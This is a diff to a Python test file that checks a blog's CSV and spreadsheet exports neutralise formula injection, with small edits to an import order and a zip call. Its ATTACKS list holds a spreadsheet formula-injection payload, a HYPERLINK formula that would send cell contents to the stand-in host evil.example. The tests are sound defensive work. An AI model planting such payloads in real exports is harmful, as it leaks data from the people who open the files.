@@ -13,8 +13,8 @@ from openpyxl import load_workbook
 from blog.models import ContactSubmission, Registration, RegistrationField
 from mrblogg.spreadsheets import FORMULA_STARTS, neutralise_formula
 from tests.factories import make_contact_page, make_event, make_registration_form
-from tests.subscriptions.factory import make_subscriber
 from tests.staff import give_totp
+from tests.subscriptions.factory import make_subscriber
 
 ATTACKS = [
     '=HYPERLINK("https://evil.example/?d="&A2,"Klicka här")',
@@ -92,7 +92,7 @@ def test_registrations_export_without_formulas_in_cells_or_headings(officer_clie
     })
     url = f"/admin/forms/submissions/{event.pk}/"
     header, row = rows(officer_client.get(url + "?export=csv"))
-    cells = dict(zip(header, row))
+    cells = dict(zip(header, row, strict=False))
     assert "'=1+1 Fråga" in header
     assert cells["Namn"] == "'=HYPERLINK(\"https://evil.example\")"
     assert cells["Organisation"] == "'@Umeå kommun"
